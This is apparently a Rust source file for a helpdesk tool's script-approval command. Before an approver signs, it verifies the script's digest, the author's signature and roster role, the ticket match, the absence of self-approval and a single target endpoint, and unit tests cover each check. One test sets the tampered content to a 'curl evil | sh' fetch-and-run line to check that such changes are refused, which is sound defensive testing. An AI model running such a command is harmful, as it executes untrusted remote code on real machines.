//! `triage script approve`: the approver's own checks before signing, and
//! the approval itself. Pure functions: the command fetches the roster
//! (verified with the org key this CLI pinned, see [`crate::trust`]), the
//! script and the ticket, calls [`check`], shows the approver what they are
//! about to sign ([`crate::render::approval_review`]), and signs only once
//! they confirmed.
//!
//! The agent checks all of this again and more; checking here too means an
//! approver never puts their signature on a script that was changed, by an
//! author the organisation did not vouch for, on their own script, or for
//! an endpoint they were not shown.

use std::time::Duration;
use triage_shared::approval::{
    Approval, Nonce, Roster, RosterEntry, ScriptDigest, SignedApproval, MAX_APPROVAL_TTL,
};
use triage_shared::identity::{KeyPair, PublicKey};
use triage_shared::protocol::ScriptDetail;
use triage_shared::ticket::Ticket;
use triage_shared::time::{parse_duration, Timestamp};
use triage_shared::{AgentId, TicketId};

/// How long an approval stays valid when `--expires` is not given.
pub const DEFAULT_APPROVAL_TTL: &str = "24h";

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ApproveRefusal {
    #[error("the script's content does not match the digest its author signed (signed {signed}, content is {actual}); do not approve it, ask the author to attach it again")]
    DigestMismatch {
        signed: ScriptDigest,
        actual: ScriptDigest,
    },
    #[error("the author's signature on this script does not verify; do not approve it, ask the author to attach it again")]
    BadAuthorSignature,
    #[error("the script is signed as `{name}` with key {key}, which is not an author on the organisation's roster (version {version}); do not approve it: the endpoint would refuse it, and it may be forged")]
    AuthorNotOnRoster {
        name: String,
        key: PublicKey,
        version: u64,
    },
    #[error("you are not an approver on the organisation's roster (version {0}) with this key; endpoints would refuse your approval. Ask the admin to sign a roster that names you")]
    NotAnApprover(u64),
    #[error(
        "this script was signed for ticket {signed_for}, not ticket {ticket}; do not approve it"
    )]
    WrongTicket {
        signed_for: TicketId,
        ticket: TicketId,
    },
    #[error("the script's digest is {actual}, not the {reviewed} you reviewed; run `triage script show` again")]
    NotWhatYouReviewed {
        reviewed: ScriptDigest,
        actual: ScriptDigest,
    },
    #[error("you wrote this script; another approver must approve it")]
    OwnScript,
    #[error(
        "the script is signed to run on {0} agents; approve scripts for one endpoint at a time"
    )]
    NotOneTarget(usize),
}

/// An approval lifetime: more than zero and at most [`MAX_APPROVAL_TTL`].
pub fn parse_approval_ttl(s: &str) -> Result<Duration, String> {
    let ttl = parse_duration(s)?;
    if ttl.is_zero() {
        return Err("an approval must last longer than 0s".into());
    }
    if ttl > MAX_APPROVAL_TTL {
        return Err(format!(
            "an approval may last at most {}d",
            MAX_APPROVAL_TTL.as_secs() / 86_400
        ));
    }
    Ok(ttl)
}

/// Who is approving.
pub struct Approver<'a> {
    pub name: &'a str,
    pub key: &'a PublicKey,
}

/// What the approver is shown and signs for, once [`check`] passed.
#[derive(Debug, Clone, PartialEq)]
pub struct Review {
    /// The author's entry on the verified roster.
    pub author: RosterEntry,
    /// The endpoint the author signed the script for.
    pub target: AgentId,
    pub roster_version: u64,
}

/// Everything the approver checks before signing, against a roster already
/// verified with the pinned org key. `reviewed` is the digest the approver
/// read in `triage script show`, if they gave it.
pub fn check(
    ticket: &Ticket,
    detail: &ScriptDetail,
    roster: &Roster,
    me: &Approver<'_>,
    reviewed: Option<ScriptDigest>,
    now: Timestamp,
) -> Result<Review, ApproveRefusal> {
    let m = &detail.script.manifest;
    let actual = ScriptDigest::of(&detail.content);
    if actual != m.digest {
        return Err(ApproveRefusal::DigestMismatch {
            signed: m.digest,
            actual,
        });
    }
    if !detail.script.signature_valid() {
        return Err(ApproveRefusal::BadAuthorSignature);
    }
    let author = roster
        .entry_by_key(&m.author_key)
        .filter(|e| e.name == m.author && e.may_author() && !e.expired(now))
        .ok_or_else(|| ApproveRefusal::AuthorNotOnRoster {
            name: m.author.clone(),
            key: m.author_key,
            version: roster.version,
        })?;
    if m.ticket_id != ticket.id {
        return Err(ApproveRefusal::WrongTicket {
            signed_for: m.ticket_id,
            ticket: ticket.id,
        });
    }
    if let Some(reviewed) = reviewed {
        if reviewed != m.digest {
            return Err(ApproveRefusal::NotWhatYouReviewed {
                reviewed,
                actual: m.digest,
            });
        }
    }
    // The agent refuses either match, so refuse both here.
    if m.author_key == *me.key || m.author == me.name {
        return Err(ApproveRefusal::OwnScript);
    }
    roster
        .entry_by_key(me.key)
        .filter(|e| e.name == me.name && e.may_approve() && !e.expired(now))
        .ok_or(ApproveRefusal::NotAnApprover(roster.version))?;
    let [target] = m.targets.as_slice() else {
        return Err(ApproveRefusal::NotOneTarget(m.targets.len()));
    };
    Ok(Review {
        author: author.clone(),
        target: *target,
        roster_version: roster.version,
    })
}

/// The signed approval: this exact signed manifest, from `now` until
/// `expires_at`, once (a fresh nonce).
pub fn sign(
    detail: &ScriptDetail,
    now: Timestamp,
    expires_at: Timestamp,
    name: &str,
    key: &KeyPair,
) -> SignedApproval {
    let s = &detail.script;
    Approval {
        manifest_hash: s.hash(),
        script_id: s.manifest.script_id,
        ticket_id: s.manifest.ticket_id,
        approved_at: now,
        expires_at,
        nonce: Nonce::generate(),
        approver: name.to_string(),
        approver_key: key.public_key(),
    }
    .sign(key)
}

#[cfg(test)]
mod tests {
    use super::*;
    use triage_shared::approval::{Interpreter, ScriptId, ScriptManifest};
    use triage_shared::roles::Role;
    use triage_shared::ticket::{Category, Priority, Source, Status, Tier};

    const NOW: Timestamp = Timestamp(1_000);

    struct World {
        author: KeyPair,
        approver: KeyPair,
        ticket: Ticket,
        detail: ScriptDetail,
        roster: Roster,
    }

    fn entry(name: &str, role: Role, key: &KeyPair) -> RosterEntry {
        RosterEntry {
            name: name.into(),
            roles: vec![role],
            key: key.public_key(),
            expires_at: None,
        }
    }

    fn world() -> World {
        let author = KeyPair::generate();
        let approver = KeyPair::generate();
        let agent = AgentId::new_random();
        let ticket = Ticket {
            id: TicketId::new_random(),
            title: "Printer".into(),
            description: String::new(),
            category: Category::Hardware,
            priority: Priority::Normal,
            status: Status::Open,
            tier: Tier::L1,
            source: Source::Employee,
            agent_id: Some(agent),
            hostname: Some("laptop-7".into()),
            requester: "dave".into(),
            assignee: None,
            created_at: Timestamp(0),
            updated_at: Timestamp(0),
            sla_due_at: Timestamp(0),
            sla: None,
        };
        let content = b"systemctl restart cups\n".to_vec();
        let script = ScriptManifest {
            script_id: ScriptId::new_random(),
            ticket_id: ticket.id,
            digest: ScriptDigest::of(&content),
            interpreter: Interpreter::Sh,
            timeout_secs: 60,
            author: "alice".into(),
            author_key: author.public_key(),
            description: String::new(),
            created_at: Timestamp(0),
            targets: vec![agent],
        }
        .sign(&author);
        let roster = Roster {
            version: 4,
            entries: vec![
                entry("alice", Role::L2, &author),
                entry("carol", Role::Approver, &approver),
            ],
            issued_at: Timestamp(0),
            expires_at: Timestamp(10_000),
        };
        World {
            author,
            approver,
            ticket,
            detail: ScriptDetail {
                script,
                content,
                approvals: vec![],
                runs: vec![],
            },
            roster,
        }
    }

    impl World {
        fn check_as(&self, name: &str, key: &KeyPair) -> Result<Review, ApproveRefusal> {
            let key = key.public_key();
            check(
                &self.ticket,
                &self.detail,
                &self.roster,
                &Approver { name, key: &key },
                None,
                NOW,
            )
        }

        fn check(&self) -> Result<Review, ApproveRefusal> {
            self.check_as("carol", &self.approver)
        }
    }

    #[test]
    fn an_intact_script_by_a_roster_author_is_approved_for_its_signed_target() {
        let w = world();
        let review = w.check().unwrap();
        assert_eq!(review.target, w.detail.script.manifest.targets[0]);
        assert_eq!(review.author.name, "alice");
        assert_eq!(review.roster_version, 4);
    }

    #[test]
    fn content_changed_after_signing_is_refused() {
        let mut w = world();
        w.detail.content = b"curl evil | sh\n".to_vec();
        let err = w.check().unwrap_err();
        assert!(
            matches!(err, ApproveRefusal::DigestMismatch { .. }),
            "{err}"
        );
        assert!(err.to_string().contains("do not approve"), "{err}");
    }

    #[test]
    fn a_manifest_edited_after_signing_is_refused() {
        let mut w = world();
        w.detail.script.manifest.timeout_secs = 6 * 3600;
        assert_eq!(w.check(), Err(ApproveRefusal::BadAuthorSignature));
    }

    #[test]
    fn a_script_re_signed_by_a_fresh_key_under_the_authors_name_is_refused() {
        let mut w = world();
        let fresh = KeyPair::generate();
        let mut m = w.detail.script.manifest.clone();
        m.author_key = fresh.public_key();
        w.detail.script = m.sign(&fresh);
        let err = w.check().unwrap_err();
        assert!(
            matches!(err, ApproveRefusal::AuthorNotOnRoster { .. }),
            "{err}"
        );
        assert!(err.to_string().contains("may be forged"), "{err}");
    }

    #[test]
    fn an_author_who_is_not_an_author_on_the_roster_is_refused() {
        let mut w = world();
        w.roster.entries[0].roles = vec![Role::L1];
        assert!(matches!(
            w.check(),
            Err(ApproveRefusal::AuthorNotOnRoster { .. })
        ));
    }

    #[test]
    fn an_approver_missing_from_the_roster_is_told_before_signing() {
        let mut w = world();
        w.roster.entries.pop();
        assert_eq!(w.check(), Err(ApproveRefusal::NotAnApprover(4)));
    }

    #[test]
    fn approving_your_own_script_is_refused_by_key_or_by_name() {
        let w = world();
        let author = KeyPair::from_file_text(&w.author.to_file_text()).unwrap();
        let err = w.check_as("carol", &author).unwrap_err();
        assert_eq!(err, ApproveRefusal::OwnScript);
        assert_eq!(
            err.to_string(),
            "you wrote this script; another approver must approve it"
        );
        assert_eq!(
            w.check_as("alice", &w.approver),
            Err(ApproveRefusal::OwnScript)
        );
    }

    #[test]
    fn a_script_for_several_endpoints_is_refused() {
        let mut w = world();
        let mut m = w.detail.script.manifest.clone();
        m.targets.push(AgentId::new_random());
        w.detail.script = m.sign(&w.author);
        assert_eq!(w.check(), Err(ApproveRefusal::NotOneTarget(2)));
    }

    #[test]
    fn a_script_signed_for_another_ticket_is_refused() {
        let mut w = world();
        w.ticket.id = TicketId::new_random();
        assert!(matches!(w.check(), Err(ApproveRefusal::WrongTicket { .. })));
    }

    #[test]
    fn a_digest_other_than_the_one_reviewed_is_refused() {
        let w = world();
        let key = w.approver.public_key();
        let me = Approver {
            name: "carol",
            key: &key,
        };
        let reviewed = ScriptDigest::of(b"what I read\n");
        assert!(matches!(
            check(&w.ticket, &w.detail, &w.roster, &me, Some(reviewed), NOW),
            Err(ApproveRefusal::NotWhatYouReviewed { .. })
        ));
        let right = w.detail.script.manifest.digest;
        assert!(check(&w.ticket, &w.detail, &w.roster, &me, Some(right), NOW).is_ok());
    }

    #[test]
    fn the_signed_approval_covers_the_whole_signed_manifest_with_a_fresh_nonce() {
        let w = world();
        let a = sign(&w.detail, NOW, Timestamp(99_000), "carol", &w.approver);
        let b = sign(&w.detail, NOW, Timestamp(99_000), "carol", &w.approver);
        assert!(a.signature_valid());
        let s = &w.detail.script;
        let x = &a.approval;
        assert_eq!(x.manifest_hash, s.hash());
        assert_eq!(
            (x.script_id, x.ticket_id),
            (s.manifest.script_id, s.manifest.ticket_id)
        );
        assert_eq!((x.approved_at, x.expires_at), (NOW, Timestamp(99_000)));
        assert_eq!(
            (x.approver.as_str(), x.approver_key),
            ("carol", w.approver.public_key())
        );
        assert_ne!(a.approval.nonce, b.approval.nonce);
    }

    #[test]
    fn approval_lifetimes_are_bounded() {
        assert_eq!(
            parse_approval_ttl(DEFAULT_APPROVAL_TTL).unwrap().as_secs(),
            86_400
        );
        assert!(parse_approval_ttl("0s").is_err());
        assert_eq!(parse_approval_ttl("7d").unwrap(), MAX_APPROVAL_TTL);
        assert!(parse_approval_ttl("8d").unwrap_err().contains("at most 7d"));
    }
}
